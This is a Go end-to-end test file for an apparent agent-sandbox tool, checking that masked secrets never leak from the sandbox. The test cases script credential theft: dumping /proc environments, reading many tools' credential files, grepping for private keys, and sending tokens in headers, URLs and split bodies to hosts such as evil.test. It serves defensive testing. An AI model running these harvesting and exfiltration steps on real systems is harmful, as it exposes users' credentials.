//go:build linux

package escape_test

import (
	"encoding/base64"
	"errors"
	"fmt"
	"maps"
	"os"
	"slices"
	"strings"

	"github.com/seed434b0696/agent-sandbox/test/e2e/escape/testnet"

	"github.com/seed434b0696/agent-sandbox/test/e2e/escape/attacker"
)

// tokenValue is the value of the secret that is masked in these cases.
const tokenValue = canary + "-token-7f3a"

// tokenFlags bind the secret to api.test, and allow other hosts whose TLS is inspected.
var tokenFlags = []string{
	"--secret", "API_TOKEN=api.test", "--allow", "api.test,http://sub.api.test", "--ca", "ephemeral", "--allow", "GET,POST https://allowed.test/**", "--allow", "http://a.allowed.test",
}

var tokenEnv = append([]string{"API_TOKEN=" + tokenValue}, servers...)

// toolFiles are files of tools that contain a credential, in the forms in which users write it.
var toolFiles = map[string]string{
	".npmrc": "; " + tokenValue + "\nregistry=https://joe:" + tokenValue + "@api.test/\n//api.test/:_authToken = \"" + tokenValue + "\"\n//evil.test/:_authToken=${COPY}\n//b.test/:_password=" +
		base64.StdEncoding.EncodeToString([]byte(tokenValue)) + "\nother-key=" + tokenValue + "\n",
	".config/pip/pip.conf":    "[global]\n# " + tokenValue + "\nextra-index-url =\n    https://" + tokenValue + "@api.test/simple\n",
	".cargo/config.toml":      "[registries.a]\nindex = \"sparse+https://api.test/\"\ntoken = '" + tokenValue + "' # " + tokenValue + "\n[env]\nA_TOKEN = \"" + tokenValue + "\"\n",
	".cargo/credentials.toml": "registries.a.token = \"" + tokenValue + "\"\n",
	".m2/settings.xml": "<settings><!-- " + tokenValue + " --><servers><server><id>a</id><password><![CDATA[" + tokenValue + "]]></password></server></servers>" +
		"<profiles><profile><id>a</id><properties><x>" + tokenValue + "</x></properties></profile></profiles></settings>",
	".docker/config.json": `{"auths": {"api.test": {"auth": "` + base64.StdEncoding.EncodeToString([]byte("joe:"+tokenValue)) + `", "identitytoken": "` + tokenValue + `"}}, "HttpHeaders": {"X": "` + tokenValue + `"}}`,
	".gitconfig":          "[url \"https://" + tokenValue + "@api.test/\"]\n\tinsteadOf = https://api.test/ ; " + tokenValue + "\n[include]\n\tpath = .gitconfig-work\n[github]\n\ttoken = " + tokenValue + "\n",
	".gitconfig-work":     "[http]\n\textraHeader = \"X-Key: " + tokenValue + "\"\n",
	".config/pnpm/rc":     "//api.test/:_authToken=" + tokenValue + "\n",
	".yarnrc.yml": "# " + tokenValue + "\nnpmRegistryServer: https://joe:" + tokenValue + "@api.test\nnpmScopes:\n  a:\n    npmAuthToken: '" + tokenValue + "'\n    npmAuthIdent: " +
		base64.StdEncoding.EncodeToString([]byte("joe:"+tokenValue)) + "\nzz: \"" + tokenValue + "\"\n",
	".bundle/config":                               "BUNDLE_MIRROR__ALL: \"https://joe:" + tokenValue + "@api.test\"\nBUNDLE_API__TEST: \"" + tokenValue + "\"\n",
	".config/uv/uv.toml":                           "[[index]] # " + tokenValue + "\nurl = \"https://joe:" + tokenValue + "@api.test/\"\n",
	".bunfig.toml":                                 "[install.scopes]\na = { url = \"https://api.test\", token = \"" + tokenValue + "\" }\n",
	".config/pypoetry/auth.toml":                   "[http-basic.a]\npassword = \"" + tokenValue + "\"\n",
	".config/composer/auth.json":                   `{"http-basic": {"api.test": {"username": "joe", "password": "` + tokenValue + `"}}, "zz": "` + tokenValue + `"}`,
	".gradle/gradle.properties":                    "# " + tokenValue + "\na.password=" + tokenValue + "\nb=\"" + tokenValue + "\"\n",
	".nuget/NuGet/NuGet.Config":                    `<configuration><packageSources><add key="a" value="https://api.test/"/></packageSources><packageSourceCredentials><a><add key="ClearTextPassword" value="` + tokenValue + `"/></a></packageSourceCredentials></configuration>`,
	".local/share/uv/credentials/credentials.toml": tokenValue + "\n",
	".pip/pip.conf":                                "[global]\nindex-url = https://api.test/?key=" + tokenValue + "\n", // the format is not recognised
}

// placeholders returns attempts on secrets whose values stay outside the sandbox.
func placeholders() []escape {
	masked := func(h *host) {
		h.write("home/project/conf/token", tokenValue+"\n")
		h.write("home/policy.json", h.expand(`{"network": {"allow": ["api.test"]}, "secrets": {
			"file": {"file": "{work}/conf/token", "hosts": ["api.test"]},
			"from": {"from_file": "{home}/.vault-token", "env": "FROM_FILE", "hosts": ["api.test"]},
			"pass": {"from_command": ["/bin/cat", "{home}/.npmrc"], "env": "FROM_COMMAND", "hosts": ["api.test"]}}}`))
	}
	kept := func(h *host, _ outcome) error {
		data, err := os.ReadFile(h.path("home/project/conf/token"))
		if string(data) != tokenValue+"\n" {
			err = errors.Join(err, fmt.Errorf("the host's file is %q now", data))
		}
		return err
	}
	api := &testnet.Limits{Good: []string{"api.test"}, Asks: []string{".test"}, Naive: true}
	auth := attacker.Probe{Good: true, Via: "connect", To: "api.test:443", TLS: true, Fields: "Authorization: Bearer @SECRET@\r\n"}
	return []escape{
		{
			ID: "F24.6", Name: "a masked variable's value is in no variable, argument or file", Matrix: rowSecrets, Flags: tokenFlags, Net: &testnet.Limits{},
			Env: append([]string{"COPY=" + tokenValue, "HARMLESS=a" + tokenValue}, tokenEnv...),
			Sh: processesScript + `[ "$API_TOKEN" ] || echo BROKEN no placeholder; env; for f in $procs/environ $procs/cmdline $procs/task/*/environ; do tr '\0' '\n' <$f; done 2>/dev/null
				cat $SSL_CERT_FILE; [ $inside ] && grep -r CANARY.41d /run/agent-sandbox /tmp /dev/shm {work} {home} 2>/dev/null; true`,
		},
		{
			ID: "F24.7", Name: "a masked file shows its value under no name", Matrix: rowSecrets, Setup: masked, Flags: []string{"-c", "{home}/policy.json"}, Env: servers, Net: &testnet.Limits{},
			Sh: `[ -s conf/token ] || echo BROKEN no placeholder; cat conf/token /proc/self/root{work}/conf/token /proc/self/cwd/conf/token; dd if=conf/token
				ln conf/token t1; ln -s conf/token t2; cat t1 t2; cp -a conf copy; cat copy/token; echo x >conf/token; rm -f conf/token; mv conf/token t3; cat t3 conf/token
				mv conf moved; cat moved/token; tar cf - . | tr '\0' '\n' | grep -a CANARY.41d; env; true`,
			Hold: func(h *host, _ outcome) error {
				// The command may move directories of the host's tree that contain the real file.
				for _, name := range []string{"conf/token", "moved/token"} {
					if data, err := os.ReadFile(h.path("home/project/" + name)); err == nil && string(data) == tokenValue+"\n" {
						return nil
					}
				}
				return errors.New("the host's file is gone, or changed")
			},
		},
		{
			ID: "F24.17", Name: "the credentials of tools' configurations are seen under no name and in no encoding", Matrix: rowSecrets, Net: &testnet.Limits{}, Env: append([]string{"COPY=" + tokenValue}, servers...),
			Flags: []string{"--allow", "api.test"},
			Setup: func(h *host) {
				for name, text := range toolFiles {
					h.write("home/"+name, text)
				}
			},
			Sh: `cd {home}; for f in ` + strings.Join(slices.Sorted(maps.Keys(toolFiles)), " ") + `; do
				cat $f /proc/self/root{home}/$f; dd if=$f; ln $f {work}/t1; ln -s {home}/$f {work}/t2; cat {work}/t1 {work}/t2; rm -f {work}/t1 {work}/t2
				grep -o '[A-Za-z0-9+/]\{20,\}=*' $f | while read x; do echo $x | base64 -d; echo; done; mv $f {work}/t3; cat {work}/t3; done 2>&1 | tr '\0' '\n'
				git config -l; env; grep -r CANARY.41d {home}/.cargo {home}/.m2 {home}/.docker {home}/.config {home}/.git* {home}/.npmrc {home}/.yarnrc.yml {home}/.bundle {home}/.bunfig.toml {home}/.gradle {home}/.nuget {home}/.local /run /tmp 2>/dev/null; true`,
		},
		{
			ID: "F24.8", Name: "nor to a later command, whatever this one leaves behind", Matrix: rowSecrets, Setup: masked, Env: servers, Net: &testnet.Limits{}, Ends: true, Hold: kept,
			Flags: []string{"-c", "{home}/policy.json"},
			Launch: []string{"/bin/sh", "-c", `box='{run}'
				$box sh -c 'mv conf moved; mkdir conf; ln moved/token t1; mv conf/token t2; rm -rf conf; ln -s moved conf; mkdir -p conf; echo x >conf/token'
				$box sh -c 'cat conf/token moved/token t1 t2; grep -r CANARY.41d .'; true`},
			Args: []string{"/bin/sh", "-c", `mv conf moved; cat moved/token`},
		},
		{
			ID: "F24.9", Name: "no process that runs for it has a value in its arguments or environment", Matrix: rowSecrets, Setup: masked, Flags: []string{"-c", "{home}/policy.json"},
			Env: servers, Net: &testnet.Limits{}, Hold: holdNoted,
			Sh: processesScript + `[ ! $inside ] || [ "$FROM_FILE" -a "$FROM_COMMAND" ] || echo BROKEN no placeholders; echo ready; read go`,
			During: func(h *host, _ *attempt) {
				all := h.processes()
				if len(all) == 0 {
					h.note("BROKEN: no processes")
				}
				for _, p := range all {
					for _, name := range []string{"cmdline", "environ"} {
						data, err := os.ReadFile(fmt.Sprintf("/proc/%d/%s", p.pid, name))
						if err == nil && strings.Contains(string(data), canary) {
							h.note("a value is in %s of %s", name, p.text)
						}
					}
				}
			},
			Control: control{Setup: func(h *host) {
				cmd := h.command(h.home, h.vars["attacker"], "sleep", tokenValue)
				h.must(cmd.Start())
				h.closers = append(h.closers, func() { _, _ = cmd.Process.Kill(), cmd.Wait() })
			}},
		},
		{
			ID: "F24.10", Name: "nothing that agent-sandbox prints or records has a value in it", Matrix: rowSecrets, Setup: masked, Env: append(tokenEnv, "COPY="+tokenValue), Net: &testnet.Limits{}, Ends: true,
			Launch: []string{"/bin/sh", "-c", `box={base}/../agent-sandbox; flags='` + strings.Join(tokenFlags[:4], " ") + ` --allow http://a.allowed.test'
				for how in --json --debug --dry-run '--record {scratch}.jsonc'; do
					for c in 'curl -s -H @- http://a.allowed.test/' 'curl -s -H @- https://api.test:9/' 'curl -s -H @- http://127.0.0.1:3128/' 'no-such-program'; do
						$box exec $how {flags} $flags -- sh -c "echo X: \$API_TOKEN | $c; echo >/etc/x"; done; done
				cat {scratch}.jsonc; rm -f {scratch}.jsonc
				for x in '' API_TOKEN COPY host api.test; do $box explain $flags $x; $box explain --json $flags $x; $box explain -c {home}/policy.json $x; done
				$box exec {flags} --secret API_TOKEN=x..y -- true; $box exec {flags} --secret NOT=api.test -- true; $box exec {flags} --secret API_TOKEN=api.test --network -- true
				BAD="$(printf 'a\n%s' $API_TOKEN)" $box exec {flags} --secret BAD=api.test -- true; $box doctor; $box exec {flags} -c {home}/policy.json --debug -- sh -c 'cat conf/token'; true`},
			Args: []string{"/bin/sh", "-c", "env"},
		},
		{
			ID: "F24.11", Name: "a value does not go to a server with another host's certificate, and into no error", Matrix: rowSecrets, Env: tokenEnv,
			Flags: []string{"--secret", "API_TOKEN=badcert.test,api.test:9,api.test", "--allow", "badcert.test,api.test,api.test:9", "--ca", "ephemeral"},
			Net:   &testnet.Limits{Good: []string{"api.test", "badcert.test"}, Naive: true}, Hold: onlyBound,
			Go: sends(auth, attacker.Probe{Via: "connect", To: "badcert.test:443", TLS: true, Fields: "Authorization: Bearer @SECRET@\r\n"},
				attacker.Probe{Via: "connect", To: "api.test:9", TLS: true, Fields: "Authorization: @SECRET@\r\n"}, attacker.Probe{Via: "connect", To: "evil.test:443", TLS: true, Fields: "Authorization: @SECRET@\r\n"}),
		},
		{
			ID: "F24.12", Name: "a placeholder is refused on its way to another host: URL, query, field, name, cookie, login", Matrix: rowSecrets,
			Env: tokenEnv, Flags: tokenFlags, Net: api, Hold: onlyBound, Go: sends(append([]attacker.Probe{auth}, elsewhere()...)...),
		},
		{
			ID: "F24.13", Name: "and in a body, however it is cut", Matrix: rowSecrets, Env: tokenEnv, Flags: tokenFlags, Hold: onlyBound,
			Net: &testnet.Limits{Good: []string{"api.test", "allowed.test", "a.allowed.test"}, Naive: true}, Go: sends(append([]attacker.Probe{auth}, bodies()...)...),
		},
		{
			ID: "F24.14", Name: "a value goes into the one field of the one host and port that it is bound to", Matrix: rowSecrets, Env: servers,
			Setup: func(h *host) {
				h.write("home/policy.json", `{"network": {"allow": ["api.test", "GET https://api.test:8443/**", "GET https://sub.api.test/**", "http://api.test"], "ca": "ephemeral"}, "secrets": {
					"API_TOKEN": {"from_file": "~/.vault-token", "hosts": ["api.test"], "header": "Authorization"}}}`)
				h.vars["sent"] = canary
			},
			Flags: []string{"-c", "{home}/policy.json"}, Net: &testnet.Limits{Good: []string{"api.test"}, Asks: []string{"sub.api.test"}, Naive: true}, Hold: onlyBound,
			Sh: processesScript + `[ $inside ] || API_TOKEN=$(cat {home}/.vault-token); export API_TOKEN; {attacker} ` + strings.Join(sends(
				auth, attacker.Probe{Good: true, Via: "connect", To: "api.test:443", TLS: true, Target: "/@SECRET@?@SECRET@", Fields: "X-Other: @SECRET@\r\nCookie: a=@SECRET@\r\nContent-Length: @LENGTH@\r\n", Body: "@SECRET@"},
				attacker.Probe{Via: "plain", To: "http://api.test/", Fields: "Authorization: @SECRET@\r\n"}, attacker.Probe{Via: "connect", To: "api.test:80", Fields: "Authorization: @SECRET@\r\n"},
				attacker.Probe{Via: "connect", To: "api.test:8443", TLS: true, Fields: "Authorization: @SECRET@\r\n"}, attacker.Probe{Via: "connect", To: "sub.api.test:443", TLS: true, Fields: "Authorization: @SECRET@\r\n"},
				attacker.Probe{Via: "connect", To: "api.test:443", TLS: true, Host: "evil.test", Fields: "Authorization: @SECRET@\r\n"}), " "),
		},
		{
			ID: "F24.15", Name: "neither the key of a CA that is made for the run nor the login of an upstream proxy is seen", Matrix: rowSecrets, Net: &testnet.Limits{},
			Setup: func(h *host) {
				h.write("home/.config/agent-sandbox/config.jsonc", `{"network": {"allow": ["GET https://allowed.test/**"], "ca": "ephemeral", "upstream": "http://me:`+canary+`@93.184.216.50:80"}}`)
			},
			Sh: processesScript + `[ ! $inside ] || [ -s "$SSL_CERT_FILE" ] || echo BROKEN no CA; grep -rl 'PRIVATE KEY' /run/agent-sandbox $SSL_CERT_FILE && echo OPEN a key
				cat {home}/.config/agent-sandbox/config.jsonc; cat /proc/self/root{home}/.config/agent-sandbox/*; env; for f in $procs/environ $procs/cmdline; do tr '\0' '\n' <$f; done 2>/dev/null; true`,
		},
		{
			ID: "F24.16", Name: "neither is the key of a CA of one's own", Matrix: rowSecrets, Net: &testnet.Limits{},
			Setup: func(h *host) { h.write("home/own-ca.pem", h.network.Authority.PEM) },
			Flags: []string{"--ca", "{home}/own-ca.pem", "--allow", "GET https://allowed.test/**"},
			Sh: processesScript + `[ ! $inside ] || [ -s "$SSL_CERT_FILE" ] || echo BROKEN no CA; for f in {home}/own-ca.pem /proc/self/root{home}/own-ca.pem $SSL_CERT_FILE; do grep 'PRIVATE KEY' $f && echo OPEN $f; done
				ln {home}/own-ca.pem own; cp {home}/own-ca.pem own; mv {home}/own-ca.pem own; grep 'PRIVATE KEY' own && echo OPEN own; true`,
		},
	}
}

// sends returns the arguments of an attack that sends the token.
func sends(list ...attacker.Probe) []string {
	return append([]string{"send", "API_TOKEN"}, attacker.ProbeArgs(list...)[1:]...)
}

// elsewhere returns requests with a placeholder to hosts that the secret is not bound to.
func elsewhere() []attacker.Probe {
	var out []attacker.Probe
	for _, p := range []attacker.Probe{{Via: "connect", To: "allowed.test:443", TLS: true}, {Via: "plain", To: "http://a.allowed.test/"}, {Via: "connect", To: "a.allowed.test:80"}} {
		for _, fields := range []string{
			"Authorization: Bearer @SECRET@", "Authorization: Basic @BASIC@", "authorization: basic   @BASIC@", "Cookie: a=b; t=@SECRET@", "X-@SECRET@: x", "User-Agent: x@SECRET@y",
			"X-Api-Key: @SECRET@\r\nAuthorization: x",
		} {
			p.Fields = fields + "\r\n"
			out = append(out, p)
		}
		p.Fields = ""
		for _, target := range []string{"/?q=@SECRET@", "/@SECRET@", "/?q=@ESCAPED@", "/a/@ESCAPED@/b", "/?a=%41&b=x@SECRET@"} {
			p.Target = target
			if p.Via == "plain" {
				p.Target = "http://a.allowed.test" + target
			}
			out = append(out, p)
		}
	}
	return out
}

// bodies returns requests whose bodies are split so that no piece contains the whole
// placeholder.
func bodies() []attacker.Probe {
	var out []attacker.Probe
	for _, p := range []attacker.Probe{{Via: "connect", To: "allowed.test:443", TLS: true}, {Via: "plain", To: "http://a.allowed.test/"}} {
		p.Method, p.Expect = "POST", testnet.Permitted
		p.Fields, p.Body = "Content-Length: @LENGTH@\r\n", "@SECRET@"
		out = append(out, p)
		p.Fields = "Transfer-Encoding: chunked\r\n"
		p.Body = "@HALFLENGTH@\r\n@HALF@\r\n@RESTLENGTH@\r\n@REST@\r\n0\r\n\r\n"
		out = append(out, p)
		p.Body = "1;x=y\r\na\r\n" + p.Body
		out = append(out, p)
	}
	return out
}

// onlyBound returns an error if the placeholder or the value reached a host that the secret is
// not bound to, or if the value did not reach the bound host.
func onlyBound(h *host, _ outcome) error {
	sent, err := os.ReadFile(h.path("home/project/sent"))
	if err != nil || len(sent) < len(canary) {
		return errors.Join(errNotTried, err, fmt.Errorf("sent %q", sent))
	}
	var errs []error
	arrived := false
	for _, v := range h.network.Visits() {
		bound := v.Host == "api.test" && v.TLS && v.To.Port() == 443
		if bound && strings.Contains(v.Header.Get("Authorization"), canary) {
			arrived = true
			v.Header.Del("Authorization")
		}
		text := v.String()
		if strings.Contains(text, canary) || !bound && strings.Contains(text, string(sent)) {
			errs = append(errs, fmt.Errorf("this came to where it must not: %s", text))
		}
	}
	if !arrived {
		errs = append(errs, fmt.Errorf("%w: the value did not come to where it is bound to", errNotTried))
	}
	return errors.Join(errs...)
}
